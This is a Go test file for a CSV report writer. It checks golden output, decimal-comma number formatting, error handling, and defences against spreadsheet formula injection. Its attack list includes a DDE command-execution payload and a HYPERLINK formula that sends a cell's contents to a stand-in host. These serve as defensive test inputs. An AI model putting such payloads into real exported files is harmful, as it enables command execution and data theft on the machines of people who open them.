package report

import (
	"bytes"
	"encoding/csv"
	"errors"
	"math"
	"os"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"
)

func TestCSVGolden(t *testing.T) {
	var out bytes.Buffer
	c := NewCSV(&out)
	rows := [][]any{
		{"referens", "namn", "e-post", "organisation", "antal", "medel", "andel"},
		{"K7M2PX", "Åsa Öberg", "asa@example.se", "Södertälje kommun", Int(-3), Number{4.257, 2}, Percent{0.125, 1}},
		{"H4RT9W", `Kim "Kå" Ek; Lind`, "", "Rad ett\r\nrad två", 1250, Number{-0.04, 1}, Percent{1, 0}},
		{"+46 70 123 45 67", "=1+1", "@a", "-", int64(0), Number{math.NaN(), 1}, nil},
		{" kant ", "\x00noll\u202e", "\xff", "\t=1", Int(math.MinInt64), Number{math.Inf(1), 1}, Percent{-0.333, 2}},
		{},
	}
	for _, row := range rows {
		if err := c.Row(row...); err != nil {
			t.Fatal(err)
		}
	}
	if err := c.Flush(); err != nil {
		t.Fatal(err)
	}
	want, err := os.ReadFile("testdata/table.csv")
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(out.Bytes(), want) {
		t.Errorf("got\n%q\nwant\n%q", out.String(), want)
	}
}

// attacks begin like formulas in Excel, LibreOffice or Google Sheets.
func attacks() []string {
	return []string{
		"=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "\u00a0=1", "\x00=1", "\u200b=1", "\ufeff=1", "\u202e=1",
		"＝1", "＋1", "－1", "＠A", `=HYPERLINK("http://x.example/?"&A1;"klicka")`, "=cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\u0085=1", "\u3000=1",
	}
}

func TestCSVFormulasAreText(t *testing.T) {
	for _, attack := range attacks() {
		if got := safe(attack); !strings.HasPrefix(got, "'") {
			t.Errorf("%q became %q", attack, got)
		}
	}
	for _, harmless := range []string{"", "Anna", "1+1", "a=b", "Öst-Väst", "'citat", "e@post.se", "3,5"} {
		if got := safe(harmless); got != harmless {
			t.Errorf("%q became %q", harmless, got)
		}
	}
}

func TestCSVNumbersAreNeverTouched(t *testing.T) {
	var out bytes.Buffer
	c := NewCSV(&out)
	_ = c.Row(Int(-5), Number{-1.5, 1}, Percent{-0.5, 0}, Number{1e9, 0}, Number{-0.0001, 2})
	_ = c.Flush()
	if got, want := out.String(), "\uFEFF-5;-1,5;-50 %;1000000000;0,00\r\n"; got != want {
		t.Errorf("got %q, want %q", got, want)
	}
}

func TestCSVErrorsStay(t *testing.T) {
	c := NewCSV(failing{})
	long := strings.Repeat("a", 5000)
	if err := errors.Join(c.Row(long), c.Row(long), c.Flush()); err == nil {
		t.Error("a full disk went unnoticed")
	}
	c = NewCSV(&bytes.Buffer{})
	if err := c.Row(3.5); err == nil || !strings.Contains(err.Error(), "float64") {
		t.Errorf("a number without decimals: %v", err)
	}
	if c.Row("x") == nil || c.Flush() == nil {
		t.Error("the error was forgotten")
	}
}

type failing struct{}

func (failing) Write([]byte) (int, error) { return 0, errors.New("disk full") }

// FuzzCSV: whatever is typed, another reader gets the same table back, and no cell of it is a formula.
func FuzzCSV(f *testing.F) {
	for _, attack := range attacks() {
		f.Add(attack, "Åsa; \"x\"\r\n")
	}
	f.Fuzz(func(t *testing.T, a, b string) {
		var out bytes.Buffer
		c := NewCSV(&out)
		if err := errors.Join(c.Row(a, b, Int(1)), c.Row(b, a, Int(-1)), c.Flush()); err != nil {
			t.Fatal(err)
		}
		if !utf8.Valid(out.Bytes()) {
			t.Fatal("not UTF-8")
		}
		r := csv.NewReader(strings.NewReader(strings.TrimPrefix(out.String(), "\uFEFF")))
		r.Comma = ';'
		rows, err := r.ReadAll()
		if err != nil || len(rows) != 2 {
			t.Fatalf("%d rows: %v in %q", len(rows), err, out.String())
		}
		if rows[0][0] != safe(a) || rows[1][0] != safe(b) || rows[1][2] != "-1" {
			t.Fatalf("read back %q", rows)
		}
		for _, field := range rows[0][:2] {
			if strings.ContainsAny(field[:min(1, len(field))], "=+-@\t\r") || strings.ContainsFunc(field, func(r rune) bool { return unicode.IsControl(r) && r != '\n' }) {
				t.Fatalf("dangerous cell %q", field)
			}
		}
	})
}
